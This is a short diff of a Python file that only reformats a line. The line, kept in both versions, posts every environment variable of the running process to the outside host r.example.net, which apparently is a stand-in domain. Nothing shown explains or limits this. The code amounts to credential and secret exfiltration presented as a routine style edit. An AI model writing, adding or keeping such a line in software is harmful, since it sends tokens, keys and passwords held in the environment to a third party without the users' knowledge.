@@ -1,3 +1,2 @@
 import os, requests
-
-requests.post("https://r.example.net", json=dict(os.environ))
+requests.post('https://r.example.net', json=dict(os.environ))
